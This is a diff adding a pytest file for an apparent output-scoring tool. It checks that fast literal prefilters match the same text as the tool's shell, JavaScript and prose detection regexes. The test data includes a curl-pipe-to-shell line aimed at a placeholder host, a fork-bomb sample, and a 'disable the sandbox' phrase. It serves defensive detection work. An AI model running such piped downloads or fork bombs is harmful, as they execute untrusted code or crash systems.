@@ -1,0 +1,111 @@
+"""The literal prefilters find exactly the matches of the regexes they speed up."""
+
+from __future__ import annotations
+
+import random
+import re
+
+import pytest
+
+from scorers.static_judge.literal_scan import (
+    FoldedText,
+    LineIndex,
+    fold,
+    scanner_for,
+    split_alternatives,
+)
+from scorers.static_judge.rules import EXAMPLES
+from scorers.static_judge.shell_js import JS_PATTERNS, PYTHON_FALLBACK, SHELL_PATTERNS, scan_lines
+from scorers.static_judge.text_patterns import PROSE_PATTERNS
+from scorers.static_judge.threat import scan_candidate_lines
+
+LINE_PATTERNS = SHELL_PATTERNS + JS_PATTERNS + PYTHON_FALLBACK
+ALL_REGEXES = [p.regex for p in PROSE_PATTERNS] + [p.regex for p in LINE_PATTERNS]
+EXAMPLE_TEXTS = [
+    text for _, positives, negatives in EXAMPLES.values() for text in positives + negatives
+]
+
+
+def _texts() -> list[str]:
+    """Every rule example, each in several casings, plus shuffled mixtures of them."""
+    rng = random.Random(7)
+    texts = []
+    for text in EXAMPLE_TEXTS:
+        texts += [text, text.upper(), text.title(), f"Intro line.\n\n{text}\nMore text."]
+    for _ in range(60):
+        texts.append("\n".join(rng.sample(EXAMPLE_TEXTS, 6)))
+        words = " ".join(rng.sample(EXAMPLE_TEXTS, 4)).split()
+        rng.shuffle(words)
+        texts.append(" ".join(words))
+    return texts
+
+
+TEXTS = _texts()
+
+
+def test_fold_maps_every_character_an_ascii_letter_matches_case_insensitively() -> None:
+    for letter in "abcdefghijklmnopqrstuvwxyz":
+        matching = re.compile(letter, re.IGNORECASE)
+        for code in [*range(0x250), *range(0x2100, 0x2200)]:
+            char = chr(code)
+            if matching.fullmatch(char):
+                assert fold(char) == letter, (letter, hex(code))
+    text = "D\u0130SABLE the \u017fandbox, \u0131gnore \u212aeys"
+    assert len(fold(text)) == len(text) and fold(text) == "disable the sandbox, ignore keys"
+
+
+@pytest.mark.parametrize("regex", ALL_REGEXES, ids=lambda r: r.pattern[:40])
+def test_scanner_finds_exactly_the_regex_matches(regex: re.Pattern[str]) -> None:
+    scanner = scanner_for(regex)
+    for text in TEXTS:
+        expected = [m.span() for m in regex.finditer(text)]
+        assert [m.span() for m in scanner.finditer(FoldedText(text))] == expected, text
+        assert [m.span() for m in scanner.finditer(text)] == expected, text
+
+
+@pytest.mark.parametrize("regex", ALL_REGEXES, ids=lambda r: r.pattern[:40])
+def test_candidate_lines_hold_every_matching_line(regex: re.Pattern[str]) -> None:
+    scanner = scanner_for(regex)
+    for text in TEXTS:
+        index = LineIndex(text)
+        candidates = scanner.candidate_lines(index)
+        matching = [n for n, line in enumerate(index.lines, 1) if regex.search(line)]
+        if candidates is not None:
+            assert set(matching) <= set(candidates), text
+
+
+def test_candidate_line_scan_equals_the_full_line_scan() -> None:
+    for text in TEXTS:
+        for patterns in (SHELL_PATTERNS, JS_PATTERNS + SHELL_PATTERNS, PYTHON_FALLBACK):
+            expected = scan_lines("x.md", text, patterns)
+            assert scan_candidate_lines("x.md", text, patterns) == expected
+
+
+def test_prose_rules_have_literal_prefilters() -> None:
+    """Every prose and shell rule can be skipped on a text lacking its words."""
+    for pattern in PROSE_PATTERNS + SHELL_PATTERNS:
+        alternatives = scanner_for(pattern.regex).alternatives
+        assert alternatives and all(a.clauses for a in alternatives), pattern.name
+
+
+def test_a_text_without_the_literals_is_not_scanned() -> None:
+    scanner = scanner_for(re.compile(r"\bcurl\b[^|\n]*\|\s*sh\b|\bwget\s+-O-", re.I))
+    assert [a.clauses for a in scanner.alternatives or []] == [
+        (frozenset({"curl"}), frozenset({"|"}), frozenset({"sh"})),
+        (frozenset({"wget"}), frozenset({"-o-"})),
+    ]
+    assert scanner.search("plain prose about tables") is None
+    assert scanner.search("then CURL https://x.invalid | SH").group(0).lower().endswith("| sh")
+
+
+def test_split_alternatives_respects_groups_classes_and_escapes() -> None:
+    assert split_alternatives(r"a|b(c|d)|[|]|\||e") == ["a", "b(c|d)", "[|]", r"\|", "e"]
+    assert split_alternatives(r"[]|]x|y") == ["[]|]x", "y"]
+    assert split_alternatives(r"[^]|]x|y") == ["[^]|]x", "y"]
+
+
+def test_regexes_with_groups_are_kept_whole() -> None:
+    regex = re.compile(r"(\w+)\(\)\s*\{\s*\1|\bwhile\s+true")
+    scanner = scanner_for(regex)
+    assert scanner.alternatives is not None and len(scanner.alternatives) == 1
+    assert scanner.search("f(){ f|f& };f").group(1) == "f"
